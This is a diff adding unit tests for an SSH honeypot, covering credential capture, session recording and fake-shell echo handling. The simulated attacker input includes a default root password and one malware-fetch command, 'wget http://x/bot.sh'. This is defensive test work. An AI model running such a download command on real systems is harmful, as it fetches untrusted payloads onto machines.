@@ -2,11 +2,20 @@
 """
 Unit tests for SSH Honeypot service.
 """
+import asyncio
+from unittest.mock import MagicMock
+
 import pytest
+from sqlalchemy import select
 
+from tenebrinet.core.models import Attack, Credential, Session
+from tenebrinet.core.recorder import BatchWriter
+from tenebrinet.services.ssh import server as ssh_server
 from tenebrinet.services.ssh.server import (
+    SHELL_PROMPT,
     SSHHoneypot,
     SSHHoneypotServer,
+    SSHHoneypotSession,
 )
 from tenebrinet.core.config import SSHServiceConfig
 
@@ -38,16 +47,23 @@ class TestSSHHoneypot:
         assert ssh_honeypot.banner == ssh_config.banner
         assert ssh_honeypot._running is False
 
-    def test_health_check_not_running(self, ssh_honeypot):
+    async def test_health_check_not_running(self, ssh_honeypot):
         """Test health check when not running."""
-        import asyncio
-        result = asyncio.get_event_loop().run_until_complete(
-            ssh_honeypot.health_check()
-        )
+        result = await ssh_honeypot.health_check()
         assert result["service"] == "ssh_honeypot"
         assert result["running"] is False
         assert result["port"] == 2222
 
+    async def test_host_key_persisted(self, ssh_config, tmp_path):
+        """Test that the host key is generated once and then reused."""
+        ssh_config.host_key_path = str(tmp_path / "keys" / "host_key")
+        first = await SSHHoneypot(ssh_config)._load_host_key()
+        second = await SSHHoneypot(ssh_config)._load_host_key()
+
+        key_file = tmp_path / "keys" / "host_key"
+        assert key_file.stat().st_mode & 0o777 == 0o600
+        assert second.export_public_key() == first.export_public_key()
+
 
 class TestSSHHoneypotServer:
     """Tests for SSHHoneypotServer class."""
@@ -69,3 +85,131 @@ class TestSSHHoneypotServer:
         assert server.honeypot == ssh_honeypot
         assert server.client_ip is None
         assert server.attack_id is None
+
+
+class TestSSHHoneypotSession:
+    """Tests for SSHHoneypotSession recording."""
+
+    async def test_session_recorded_at_close(
+        self, ssh_honeypot, session_factory
+    ):
+        """Test that the login and session rows are queued together."""
+        ssh_honeypot.recorder = BatchWriter(
+            flush_interval=60, session_factory=session_factory
+        )
+        ssh_honeypot.recorder.start()
+        server = SSHHoneypotServer(ssh_honeypot)
+        server.client_ip = "10.0.0.1"
+        assert await server.validate_password("root", "toor") is True
+
+        session = SSHHoneypotSession(server)
+        session._chan = MagicMock()
+        await session._start_shell()
+        for command in ("whoami", "uname -a", "exit"):
+            await session._handle_command(command)
+        session.eof_received()
+        await ssh_honeypot.recorder.stop()
+
+        async with session_factory() as db_session:
+            attack = (await db_session.scalars(select(Attack))).one()
+            credential = (await db_session.scalars(select(Credential))).one()
+            ssh_session = (await db_session.scalars(select(Session))).one()
+
+        assert attack.id == server.attack_id
+        assert credential.attack_id == attack.id
+        assert credential.password == "toor"
+        assert ssh_session.attack_id == attack.id
+        assert [c["cmd"] for c in ssh_session.commands] == [
+            "whoami", "uname -a", "exit"
+        ]
+        assert ssh_session.end_time is not None
+        assert ssh_session.commands[0]["timestamp"].endswith("+00:00")
+
+    async def test_session_recorded_without_eof(
+        self, ssh_honeypot, session_factory
+    ):
+        """Test that a dropped channel or a shutdown still queues sessions."""
+        ssh_honeypot.recorder = BatchWriter(
+            flush_interval=60, session_factory=session_factory
+        )
+        ssh_honeypot.recorder.start()
+        ssh_honeypot._running = True
+        server = SSHHoneypotServer(ssh_honeypot)
+        server.client_ip = "10.0.0.1"
+        await server.validate_password("root", "toor")
+
+        dropped, still_open = (SSHHoneypotSession(server) for _ in range(2))
+        for session in (dropped, still_open):
+            session._chan = MagicMock()
+            await session._start_shell()
+        session_ids = {dropped.session_id, still_open.session_id}
+        await dropped._handle_command("wget http://x/bot.sh")
+        dropped.connection_lost(None)
+        await ssh_honeypot.stop()
+
+        async with session_factory() as db_session:
+            rows = (await db_session.scalars(select(Session))).all()
+
+        assert {row.id for row in rows} == session_ids
+        assert sorted(len(row.commands) for row in rows) == [0, 1]
+        assert not ssh_honeypot._open_sessions
+
+    async def test_commands_written_while_open(
+        self, ssh_honeypot, session_factory, monkeypatch
+    ):
+        """Test that an open session's commands reach the database."""
+        monkeypatch.setattr(ssh_server, "SESSION_FLUSH_INTERVAL", 0.01)
+        ssh_honeypot.recorder = BatchWriter(
+            flush_interval=0.01, session_factory=session_factory
+        )
+        ssh_honeypot.recorder.start()
+        server = SSHHoneypotServer(ssh_honeypot)
+        server.client_ip = "10.0.0.1"
+        await server.validate_password("root", "toor")
+
+        session = SSHHoneypotSession(server)
+        session._chan = MagicMock()
+        await session._start_shell()
+        await session._handle_command("whoami")
+
+        row = None
+        for _ in range(200):
+            await asyncio.sleep(0.01)
+            async with session_factory() as db_session:
+                row = await db_session.get(Session, session.session_id)
+            if row is not None and row.commands:
+                break
+        assert row is not None
+        assert [c["cmd"] for c in row.commands] == ["whoami"]
+        assert row.end_time is None
+
+        session_id = session.session_id
+        await session._handle_command("id")
+        session.eof_received()
+        await ssh_honeypot.recorder.stop()
+
+        async with session_factory() as db_session:
+            row = await db_session.get(Session, session_id)
+        assert [c["cmd"] for c in row.commands] == ["whoami", "id"]
+        assert row.end_time is not None
+
+    async def test_pasted_line_echoed_in_one_write(self, ssh_honeypot):
+        """Test that a multi-key chunk is echoed once and executed."""
+        session = SSHHoneypotSession(SSHHoneypotServer(ssh_honeypot))
+        session._chan = MagicMock()
+        session.session_id = "session"
+
+        session.data_received("whoamx\x7fi\r", None)
+        await asyncio.sleep(0)
+
+        echo = session._chan.write.call_args_list[0].args[0]
+        assert echo == "whoamx\x7f\b \bi\r\r\n" + SHELL_PROMPT
+        assert [c["cmd"] for c in session._recorded_commands] == ["whoami"]
+        assert session._chan.write.call_args_list[1].args[0] == "root\r\n"
+
+    def test_session_requested_opens_shell(self, ssh_honeypot):
+        """Test that session requests get the fake shell session."""
+        server = SSHHoneypotServer(ssh_honeypot)
+        session = server.session_requested()
+        assert isinstance(session, SSHHoneypotSession)
+        assert session.server is server